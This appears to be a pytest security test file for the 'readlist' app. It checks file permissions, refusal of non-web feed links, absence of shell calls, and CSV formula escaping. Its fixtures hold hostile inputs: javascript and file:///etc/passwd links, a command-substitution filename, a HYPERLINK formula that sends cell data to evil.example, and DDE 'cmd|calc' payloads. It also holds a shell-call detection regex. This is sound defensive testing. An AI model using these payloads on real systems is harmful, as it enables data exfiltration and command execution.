"""Notes are private, feeds cannot open or copy anything but web links, nothing reaches a shell.

tests/unit/test_store.py and test_config.py check the modes the store and `save_theme` choose;
here a real `readlist` run (with umask 0, so nothing is left to the user's umask) and the app
saving a theme create every file, and the app meets links a feed could hold.
"""

from __future__ import annotations

import os
import re
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pyperclip
import pytest
from appkit import SIZE, main_screen, notifications, paper_list, settle

import readlist
from readlist.app import ReadlistApp
from readlist.core.formats import parse_feed
from readlist.core.library import Library
from readlist.widgets.detail import DetailPane

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "sample_feed.txt"
PACKAGE = Path(readlist.__file__).resolve().parent


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def readlist_cli(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[bytes]:
    done = subprocess.run(
        [sys.executable, "-m", "readlist", *args],
        capture_output=True,
        env={**os.environ, "PYTHONPATH": str(ROOT), **env},
        umask=0,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return done


@pytest.mark.parametrize("where", ["--db", "XDG_DATA_HOME"])
def test_a_real_run_creates_every_file_0600_in_a_0700_folder(
    tmp_path: Path, where: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("READLIST_DB", raising=False)
    env = {"XDG_DATA_HOME": str(tmp_path / "data"), "XDG_CONFIG_HOME": str(tmp_path / "cfg")}
    if where == "--db":
        db = tmp_path / "fresh" / "deeper" / "library.json"
        args = ["--db", str(db)]
    else:
        db = tmp_path / "data" / "readlist" / "library.json"
        args = []
    readlist_cli("import", *args, str(SAMPLE), env=env)
    first = readlist_cli("list", *args, env=env).stdout.split()[0].decode()
    readlist_cli("set", *args, first, "--star", "--note", "private thoughts", env=env)
    folder = db.parent
    assert mode(folder) == 0o700
    files = sorted(p.name for p in folder.iterdir())
    assert {"library.json", "library.json.lock", "library.json.journal"} <= set(files), files
    for name in files:
        assert mode(folder / name) == 0o600, (name, oct(mode(folder / name)))


@pytest.fixture
def open_umask() -> Iterator[None]:
    """Run with umask 0: whatever mode a file gets is the one readlist chose."""
    old = os.umask(0)
    try:
        yield
    finally:
        os.umask(old)


async def test_the_config_file_saved_by_the_app_is_0600_in_a_0700_folder(
    tmp_path: Path, open_umask: None
) -> None:
    config = tmp_path / "cfg" / "readlist" / "config.toml"
    library = Library.open(tmp_path / "lib" / "library.json")
    app = ReadlistApp(library, config_file=config)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        app.theme = "nord"
        await settle(pilot)
    library.close()
    assert 'theme = "nord"' in config.read_text()
    assert mode(config) == 0o600 and mode(config.parent) == 0o700


HOSTILE_ONLY = (
    b"Mar 12\n\nA paper whose links are all hostile\n\n"
    b"See javascript:alert(document.cookie) and file:///etc/passwd and "
    b"[here](javascript:alert(1)) and <file:///etc/shadow> and data:text/html,x.\n\n"
    b"A paper with one good link\n\nCode javascript:void(0) then https://github.com/o/r.\n\n"
)


@pytest.fixture
def recorded(monkeypatch: pytest.MonkeyPatch) -> dict[str, list[str]]:
    """What would have reached the browser and the system clipboard."""
    seen: dict[str, list[str]] = {"browser": [], "clipboard": []}
    monkeypatch.setenv("DISPLAY", ":0")  # a graphical browser is available...

    def browser(url: str, *args: object, **kwargs: object) -> bool:
        seen["browser"].append(url)
        return True

    monkeypatch.setattr("webbrowser.open", browser)
    monkeypatch.setattr(pyperclip, "copy", seen["clipboard"].append)
    monkeypatch.setattr("readlist.clipboard.x_display_problem", lambda display, timeout=0.5: None)
    return seen


async def test_feed_links_that_are_not_web_links_are_never_opened_or_copied(
    tmp_path: Path, recorded: dict[str, list[str]]
) -> None:
    library = Library.open(tmp_path / "library.json")
    parsed = parse_feed(HOSTILE_ONLY, "links.txt")
    library.import_papers(parsed.papers, parsed.source)
    hostile, good = (library.get(p.id).paper for p in parsed.papers)
    assert hostile.links == () and hostile.github is None
    assert good.links == ("https://github.com/o/r",) and good.github == "https://github.com/o/r"
    app = ReadlistApp(library)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        current = paper_list(app).current
        assert current is not None and current.id == hostile.id
        for key in ("o", "c", "C", "y"):
            await pilot.press(key)
            await settle(pilot)
        assert recorded == {"browser": [], "clipboard": []}
        assert app.clipboard == ""
        assert "No links in this paper" in notifications(app)
        assert "No GitHub link for this paper" in notifications(app)
        # A link in a note (Markdown) or any link clicked in the detail pane goes the same way.
        screen = main_screen(app)
        for url in ("javascript:alert(1)", "file:///etc/passwd", "data:text/html,x"):
            screen.post_message(DetailPane.LinkClicked(url))
            await settle(pilot)
        screen.action_open_link(99)  # an index past the links: nothing
        await settle(pilot)
        assert recorded["browser"] == []
        refusals = [m for m in notifications(app) if m.startswith("Not opening")]
        assert len(refusals) == 3
        await pilot.press("j", "o", "c")  # the good paper: its web link is opened and copied
        await settle(pilot)
        assert recorded["browser"] == ["https://github.com/o/r"]
        assert recorded["clipboard"] == ["https://github.com/o/r"]
        assert app.clipboard == "https://github.com/o/r"
    library.close()


SHELL_PATTERNS = re.compile(
    r"shell\s*=\s*True|os\.system\(|os\.popen\(|os\.exec\w*\(|os\.spawn\w*\(|pty\.spawn\(|"
    r"commands\.getoutput|asyncio\.create_subprocess_shell"
)


def test_nothing_in_readlist_runs_a_shell_and_only_the_editor_and_git_start_programs() -> None:
    """Feed text never reaches a shell: no shell calls at all; subprocesses only for the user's
    editor and for git (sync).

    The editor gets an argument list ($VISUAL/$EDITOR split by shlex, then a temp file name), so
    no text from a feed or a note is ever part of a command line. (`readlist serve` starts the
    app too, also as an argument list: see the next test.)
    """
    shell_calls: list[str] = []
    subprocess_users: list[str] = []
    for source in sorted(PACKAGE.rglob("*.py")):
        text = source.read_text(encoding="utf-8")
        relative = str(source.relative_to(PACKAGE))
        shell_calls += [f"{relative}: {m.group(0)}" for m in SHELL_PATTERNS.finditer(text)]
        if re.search(r"\bsubprocess\.\w+\(", text):
            subprocess_users.append(relative)
    assert shell_calls == []
    assert subprocess_users == [
        "core/sync/driver.py",
        "core/sync/git.py",
        "core/sync/repo.py",  # the background `git repack`, an argument list like git.py's
        "external_editor.py",
    ]
    editor = (PACKAGE / "external_editor.py").read_text(encoding="utf-8")
    calls = re.findall(r"subprocess\.\w+\((.*)\)", editor)
    assert calls == ["command, check=False"], calls
    # Sync runs git, found on PATH, with argument lists: git.py builds `[git, "-C", folder, ...]`
    # and the driver hands a file that is not a library to `git merge-file` the same way.
    for name in ("core/sync/git.py", "core/sync/driver.py"):
        text = (PACKAGE / name).read_text(encoding="utf-8")
        for call in re.findall(r"subprocess\.run\(\s*([^,]+),", text):
            assert call.strip().startswith(("[", "command")), (name, call)


def test_readlist_serve_starts_only_readlist_itself_as_an_argument_list() -> None:
    """Each browser tab runs `python -m readlist --db LIBRARY open`, spawned without a shell; the
    only other program start in readlist/ besides the editor."""
    from readlist.serve import app_command

    spawners = [
        str(source.relative_to(PACKAGE))
        for source in sorted(PACKAGE.rglob("*.py"))
        if "create_subprocess_exec(" in source.read_text(encoding="utf-8")
    ]
    assert spawners == ["serve/sessions.py"]
    sessions = (PACKAGE / "serve" / "sessions.py").read_text(encoding="utf-8")
    assert re.findall(r"create_subprocess_exec\(\s*([^,]*),", sessions) == ["*self.argv"]
    library = Path("/x/$(touch pwned); `id`.json")
    assert app_command(library) == [sys.executable, "-m", "readlist", "--db", str(library), "open"]


FORMULA_FEED = (
    b'Mar 12\n\n=HYPERLINK("http://evil.example/?d="&A1,"Click")\n\n'
    b"+cmd|' /C calc'!A0 in the abstract.\n\n"
    b"@SUM(1+1)*cmd title\n\n-2+3 abstract.\n"
)


def test_a_csv_export_never_holds_a_live_spreadsheet_formula(tmp_path: Path) -> None:
    """Feed text, a note and a tag starting with = + - @ are exported with a leading quote; a
    tag such as `=cmd|' /c calc'!a0` (from a shared Markdown list) too, though list cells (links,
    tags) are joined before the guard sees them."""
    import csv
    import io

    db = tmp_path / "library.json"
    (tmp_path / "f.txt").write_bytes(FORMULA_FEED)
    env: dict[str, str] = {}
    readlist_cli("import", "--db", str(db), str(tmp_path / "f.txt"), env=env)
    first = readlist_cli("list", "--db", str(db), env=env).stdout.split()[0].decode()
    readlist_cli("set", "--db", str(db), first, "--note=@echo hi", env=env)
    shared = "# readlist: 1 paper\n\n- [ ] @SUM(1+1)\\*cmd title\n  - Tags: =cmd|' /c calc'!a0\n"
    (tmp_path / "shared.md").write_text(shared, encoding="utf-8")
    readlist_cli("import", "--db", str(db), str(tmp_path / "shared.md"), env=env)
    out = readlist_cli("export", "--db", str(db), "-f", "csv", env=env).stdout.decode()
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert len(rows) == 2
    cells = [row[name] for row in rows for name in ("title", "abstract", "note", "tags")]
    assert [c for c in cells if c and c[0] in "=+-@\t\r"] == [], cells
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
